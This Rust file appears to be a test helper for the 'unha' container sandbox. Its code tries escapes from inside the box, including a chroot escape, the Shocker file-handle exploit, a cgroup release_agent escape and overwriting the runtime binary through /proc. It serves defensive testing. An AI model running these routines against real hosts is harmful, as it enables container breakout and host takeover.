//! The ways out themselves, as they are tried from within: this same program, started in the box as its command.
//!
//! Each comes to something only outside; `Err` says what stood in the way.

#![allow(unsafe_code, reason = "calls that nobody wraps, since nobody has a good use for them")]

use std::fs::{self, File, OpenOptions};
use std::io::{self, ErrorKind, Read, Write};
use std::os::fd::{AsRawFd, FromRawFd};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixStream};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use unha::kernel::container::escape::escape;

/// What the outside tells the one who tries to get there, as words of an environment variable: a way's name and its target.
pub const WAY: &str = "UNHA_TEST_WAY";

/// What is said when a way has led out.
pub const OUT: &str = "GOT OUT";
/// What is said when the file to be overwritten is held, and its runner may end.
pub const HOLDS: &str = "HOLDS IT";
/// What is said when it has not, and why.
pub const HELD: &str = "HELD:";

/// Tries the way that is asked for; does nothing where none is.
pub fn as_asked() {
    let Ok(words) = std::env::var(WAY) else { return };
    let (way, target) = words.split_once(' ').unwrap_or((&words, ""));
    match attempt(way, target) {
        Ok(()) => println!("{OUT}"),
        Err(why) => println!("{HELD} {why}"),
    }
}

fn attempt(way: &str, target: &str) -> io::Result<()> {
    match way {
        "chroot" => {
            let (prison, secret) = target.split_once(' ').unwrap();
            escape(Path::new(prison), &mut |_, _| {}).map_err(|refused| io::Error::other(refused.to_string()))?;
            is_secret(Path::new(secret))
        }
        "descriptor" => is_secret(&Path::new("/proc/self/fd").join(target).join("secret")),
        "descriptor-of-first" => is_secret(&Path::new("/proc/1/fd").join(target).join("secret")),
        "cwd" => cwd(target),
        "root-of-process" => {
            let (pid, secret) = target.split_once(' ').unwrap();
            is_secret(Path::new(&format!("/proc/{pid}/root{secret}")))
        }
        "mknod" => device(target),
        "ptrace" => call(libc::SYS_ptrace, [libc::PTRACE_SEIZE as usize, target.parse().unwrap(), 0, 0, 0]).map(drop),
        "signal" => {
            nix::sys::signal::kill(nix::unistd::Pid::from_raw(target.parse().unwrap()), None).map_err(Into::into)
        }
        // Opened and left as it is.
        "open-for-writing" => OpenOptions::new().write(true).open(target).map(drop),
        "read" => read_some(target),
        "abstract-socket" => UnixStream::connect_addr(&SocketAddr::from_abstract_name(target)?).map(drop),
        "message-queue" => call(libc::SYS_msgget, [target.parse().unwrap(), 0, 0, 0, 0]).map(drop),
        "mount" => {
            Ok(nix::mount::mount(Some("none"), "/tmp", Some("tmpfs"), nix::mount::MsFlags::empty(), None::<&str>)?)
        }
        "user-namespace" => user_namespace(),
        "handle" => by_handle(target),
        "overwrite" => overwrite(target),
        "write" => {
            let (file, text) = target.split_once(' ').unwrap();
            OpenOptions::new().write(true).open(file)?.write_all(text.as_bytes())
        }
        "clock_settime" => set_clock(),
        "release_agent" => release_agent(target),
        _ => bare_call(way),
    }
}

/// Calls that no namespace divides. What they are asked for is wrong or nothing, so that they change nothing: the kernel
/// asks for the right first, and says another errno to who has it.
fn bare_call(way: &str) -> io::Result<()> {
    let key = c"user".as_ptr() as usize;
    let name = c"unha-test".as_ptr() as usize;
    // The process's own keyring: it goes with the process.
    let own = libc::KEY_SPEC_PROCESS_KEYRING.cast_unsigned() as usize;
    let done = match way {
        "keyctl" => call(libc::SYS_keyctl, [libc::KEYCTL_GET_KEYRING_ID as usize, own, 1, 0, 0]),
        "add_key" => call(libc::SYS_add_key, [key, name, name, 4, own]),
        "request_key" => call(libc::SYS_request_key, [key, name, 0, 0, 0]),
        // UFFD_USER_MODE_ONLY, which the kernel gives to everybody.
        "userfaultfd" => call(libc::SYS_userfaultfd, [1 | libc::O_CLOEXEC as usize, 0, 0, 0, 0]),
        "bpf" => bpf_map(),
        "perf_event_open" => perf_event(),
        "reboot" => call(libc::SYS_reboot, [0, 0, 0, 0, 0]),
        "kexec_load" => call(libc::SYS_kexec_load, [0, usize::MAX, 0, 0, 0]),
        "swapon" => call(libc::SYS_swapon, [0, 0, 0, 0, 0]),
        "init_module" => call(libc::SYS_init_module, [0, 0, 0, 0, 0]),
        "syslog" => call(libc::SYS_syslog, [10, 0, 0, 0, 0]),
        _ => panic!("no such way: {way}"),
    };
    match done {
        Err(error) if past_the_gate(way).contains(&error.raw_os_error().unwrap_or(0)) => Ok(()),
        done => done.map(drop),
    }
}

/// What the kernel answers to whoever may, when there is nothing in what is asked.
fn past_the_gate(way: &str) -> &'static [i32] {
    match way {
        "request_key" => &[libc::ENOKEY],
        "reboot" | "kexec_load" => &[libc::EINVAL],
        "swapon" => &[libc::EFAULT],
        "init_module" => &[libc::EFAULT, libc::ENOEXEC],
        _ => &[],
    }
}

fn call(number: libc::c_long, args: [usize; 5]) -> io::Result<i64> {
    // SAFETY: numbers, nulls, and texts that live for ever; what memory the kernel writes to is named by none of them.
    let returned = unsafe { libc::syscall(number, args[0], args[1], args[2], args[3], args[4]) };
    if returned < 0 { Err(io::Error::last_os_error()) } else { Ok(returned) }
}

/// A child in a user namespace of its own, which ends at once.
fn user_namespace() -> io::Result<()> {
    let flags = (libc::CLONE_NEWUSER | libc::SIGCHLD) as usize;
    match call(libc::SYS_clone, [flags, 0, 0, 0, 0])? {
        // SAFETY: ends the child; nothing runs after it.
        0 => unsafe { libc::_exit(0) },
        child => {
            let _ = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(i32::try_from(child).unwrap()), None);
            Ok(())
        }
    }
}

/// Makes a map, which is the least that bpf(2) does.
fn bpf_map() -> io::Result<i64> {
    // BPF_MAP_TYPE_ARRAY, a key and a value of four bytes, one entry; the rest is zero.
    let mut attr = [0_u32; 32];
    attr[..4].copy_from_slice(&[2, 4, 4, 1]);
    // BPF_MAP_CREATE is 0.
    call(libc::SYS_bpf, [0, attr.as_ptr() as usize, size_of_val(&attr), 0, 0])
}

/// Counts a software event of the whole machine's first processor.
fn perf_event() -> io::Result<i64> {
    // PERF_TYPE_SOFTWARE and the size; PERF_COUNT_SW_CPU_CLOCK is 0, and so is the rest.
    let mut attr = [0_u32; 16];
    attr[..2].copy_from_slice(&[1, 64]);
    let all = usize::MAX;
    call(libc::SYS_perf_event_open, [attr.as_ptr() as usize, all, 0, all, 8])
}

fn is_secret(file: &Path) -> io::Result<()> {
    let text = fs::read_to_string(file)
        .map_err(|error| io::Error::new(error.kind(), format!("{}: {error}", file.display())))?;
    if text == "outside" { Ok(()) } else { Err(io::Error::other("another file")) }
}

/// From where we stand, and from every folder above it, to the secret: by a name, or none, that this root has not.
fn cwd(secret: &str) -> io::Result<()> {
    let up = "../".repeat(40) + secret.trim_start_matches('/');
    is_secret(Path::new("secret")).or_else(|_| is_secret(&PathBuf::from(up)))
}

/// Makes the device's node wherever that can be done, and reads from it.
fn device(target: &str) -> io::Result<()> {
    let numbers: Vec<&str> = target.split(' ').collect();
    let kind = if numbers[0] == "b" { SFlag::S_IFBLK } else { SFlag::S_IFCHR };
    let device = makedev(numbers[1].parse().unwrap(), numbers[2].parse().unwrap());
    let mut held = io::Error::other("no folder");
    for folder in [numbers.get(3).copied().unwrap_or("/tmp"), "/tmp", "/dev", "/dev/shm", "/", "/run"] {
        let node = Path::new(folder).join("unha-test-node");
        let done = mknod(&node, kind, Mode::S_IRUSR, device).map_err(io::Error::from).and_then(|()| {
            let mut bytes = [0; 512];
            // Read-only: nothing is changed, whatever it is.
            File::open(&node).and_then(|mut file| file.read_exact(&mut bytes))
        });
        let _ = fs::remove_file(&node);
        match done {
            Ok(()) => return Ok(()),
            Err(error) => held = error,
        }
    }
    Err(held)
}

fn read_some(file: &str) -> io::Result<()> {
    let mut byte = [0];
    match File::open(file)?.read(&mut byte)? {
        0 => Err(io::Error::new(ErrorKind::UnexpectedEof, "empty")),
        _ => Ok(()),
    }
}

/// The Shocker exploit: a file's handle, which the kernel opens past every root, on the file system of any file at hand.
fn by_handle(target: &str) -> io::Result<()> {
    let (at_hand, hex) = target.split_once(' ').unwrap();
    let at_hand = File::open(at_hand)?;
    let handle: Vec<u8> =
        (0..hex.len()).step_by(2).map(|at| u8::from_str_radix(&hex[at..at + 2], 16).unwrap()).collect();
    // open_by_handle_at(2) wants it aligned as its two first numbers are.
    let mut words = vec![0_u64; handle.len().div_ceil(8)];
    for (word, bytes) in words.iter_mut().zip(handle.chunks(8)) {
        let mut whole = [0; 8];
        whole[..bytes.len()].copy_from_slice(bytes);
        *word = u64::from_ne_bytes(whole);
    }
    let flags = (libc::O_RDONLY | libc::O_NONBLOCK) as usize;
    let fd = call(
        libc::SYS_open_by_handle_at,
        [at_hand.as_raw_fd().cast_unsigned() as usize, words.as_ptr() as usize, flags, 0, 0],
    )?;
    // SAFETY: it is new and ours.
    drop(unsafe { File::from_raw_fd(i32::try_from(fd).unwrap()) });
    Ok(())
}

/// A file's handle, as [`by_handle`] takes it.
pub fn handle_of(file: &str) -> Option<String> {
    let path = std::ffi::CString::new(file).unwrap();
    // handle_bytes and handle_type, then up to 128 bytes.
    let mut handle = [0_u32; 34];
    handle[0] = 128;
    let mut mount = 0;
    // SAFETY: a text that ends with NUL, and memory of the size that is said in it.
    let returned = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            path.as_ptr(),
            handle.as_mut_ptr(),
            &raw mut mount,
            0,
        )
    };
    let bytes: Vec<u8> = handle.iter().flat_map(|word| word.to_ne_bytes()).collect();
    let length = 8 + usize::try_from(handle[0]).unwrap();
    (returned == 0).then(|| bytes[..length].iter().fold(String::new(), |text, byte| text + &format!("{byte:02x}")))
}

/// Sets the clock to what it says.
fn set_clock() -> io::Result<()> {
    let mut now = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    // SAFETY: a live struct that the kernel fills, and then reads.
    let done = unsafe {
        libc::clock_gettime(libc::CLOCK_REALTIME, &raw mut now);
        libc::clock_settime(libc::CLOCK_REALTIME, &raw const now)
    };
    if done == 0 { Ok(()) } else { Err(io::Error::last_os_error()) }
}

/// Mounts a hierarchy of version 1 that nobody uses, names the agent, and leaves a cgroup empty.
fn release_agent(agent: &str) -> io::Result<()> {
    let (at, none) = (Path::new("/mnt"), nix::mount::MsFlags::empty());
    nix::mount::mount(Some("none"), at, Some("cgroup"), none, Some("none,name=unha-test"))?;
    fs::write(at.join("release_agent"), agent)?;
    let group = at.join("left");
    fs::create_dir(&group)?;
    fs::write(group.join("notify_on_release"), "1")?;
    let mut child = std::process::Command::new("sleep").arg("0.2").spawn()?;
    fs::write(group.join("cgroup.procs"), child.id().to_string())?;
    child.wait()?;
    // The kernel is about to start the agent, by the hierarchy that goes with its last cgroup.
    std::thread::sleep(Duration::from_millis(500));
    fs::remove_dir(&group)
}

/// Takes hold of the file that a process runs, waits until nobody runs it any more, and empties it.
fn overwrite(process: &str) -> io::Result<()> {
    // It has started the shell that has started us.
    let of_runtime = || {
        let shell = fs::read_to_string(format!("/proc/{}/status", nix::unistd::getppid()))?;
        let parent = shell.lines().find_map(|line| line.strip_prefix("PPid:")).map(str::trim);
        Ok::<_, io::Error>(parent.unwrap_or_default().to_owned())
    };
    let process = if process == "runtime" { of_runtime()? } else { process.to_owned() };
    let held = File::open(format!("/proc/{process}/exe"))?;
    // Out of the group that is killed.
    let _ = nix::unistd::setsid();
    println!("{HOLDS}");
    let end = Instant::now() + Duration::from_secs(20);
    loop {
        // A read-only mount refuses before the kernel asks whether the file is being executed.
        let opened = OpenOptions::new().write(true).truncate(true).open(format!("/proc/self/fd/{}", held.as_raw_fd()));
        match opened {
            Err(error) if error.kind() == ErrorKind::ExecutableFileBusy && Instant::now() < end => {
                std::thread::sleep(Duration::from_millis(2));
            }
            opened => return opened.map(drop),
        }
    }
}
